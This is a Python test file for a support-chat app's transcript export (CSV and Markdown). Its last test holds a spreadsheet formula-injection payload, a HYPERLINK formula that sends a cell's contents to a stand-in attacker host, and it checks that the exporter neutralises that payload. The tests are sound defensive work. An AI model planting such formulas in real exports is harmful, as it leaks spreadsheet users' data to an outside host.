"""Transcript downloads: CSV that Excel opens in UTF-8, and a Markdown table that stays a table."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hymt_chat.modes.agent.conversation import Conversation, Turn
from hymt_chat.modes.agent.transcript import (
    CSV_COLUMNS,
    escape_cell,
    export_files,
    transcript_csv,
    transcript_markdown,
)

T0 = datetime(2025, 3, 1, 9, 30, 5, tzinfo=UTC)


def _conversation() -> Conversation:
    conv = Conversation("en", "zh", started=T0)
    conv.add_turn(Turn(T0, "customer", "您好，我的订单号是JD123456789。", "zh",
                       "Hello, my order number is JD123456789.", "en"))
    conv.add_turn(Turn(T0, "agent", "Line one | with a pipe\nline two <b>", "en",
                       "第一行\n第二行", "zh", ("Numbers differ",), "Line one, line two", 0.8))
    return conv


def test_csv_has_a_bom_and_round_trips_through_the_csv_module():
    data = transcript_csv(_conversation().transcript)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8, not the ANSI code page
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[1] == ["2025-03-01T09:30:05+00:00", "customer", "zh",
                       "您好，我的订单号是JD123456789。", "en",
                       "Hello, my order number is JD123456789.", "", ""]
    assert rows[2][3] == "Line one | with a pipe\nline two <b>"  # newlines kept, quoted
    assert rows[2][6:] == ["Line one, line two", "Numbers differ"]


def test_markdown_cells_cannot_break_the_table():
    assert escape_cell("a | b") == "a \\| b"
    assert escape_cell("one\r\ntwo\nthree") == "one<br>two<br>three"
    assert escape_cell("<script>&") == "&lt;script&gt;&amp;"
    assert escape_cell("back\\slash") == "back\\\\slash"


def test_markdown_has_the_pair_times_and_one_row_per_turn():
    md = transcript_markdown(_conversation())
    lines = md.splitlines()
    assert "Agent: English ⇄ Customer: Chinese" in md
    assert "Started: 2025-03-01T09:30:05+00:00" in md
    rows = [line for line in lines if line.startswith("| 2025")]
    assert len(rows) == 2
    # Every row has exactly the header's 5 columns: unescaped pipes would add some.
    for row in rows:
        assert row.replace("\\|", "").count("|") == 6
    assert "*English:* Line one \\| with a pipe<br>line two &lt;b&gt;" in rows[1]
    assert "Back-translation: Line one, line two" in rows[1]


def test_export_files_are_named_after_the_start():
    files = export_files(_conversation())
    assert [f.name for f in files] == ["support-20250301-093005.csv", "support-20250301-093005.md"]
    assert files[0].mime.startswith("text/csv") and files[1].mime.startswith("text/markdown")
    assert files[1].content.decode("utf-8").startswith("# Support conversation")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    conv = Conversation("en", "zh", started=T0)
    for text in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "a=1 is fine"):
        conv.add_turn(Turn(T0, "customer", text, "en", text, "zh"))
    rows = list(csv.reader(io.StringIO(transcript_csv(conv.transcript).decode("utf-8-sig"))))
    originals = [row[3] for row in rows[1:]]
    assert originals[:6] == ["'" + t for t in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB",
                                               "\rCR")]
    assert originals[6] == "a=1 is fine"  # only a leading sign matters
    assert all(row[5] == row[3] for row in rows[1:])  # the translation column too
    md = transcript_markdown(conv)
    assert "=HYPERLINK" in md and "'=HYPERLINK" not in md  # the Markdown stays literal
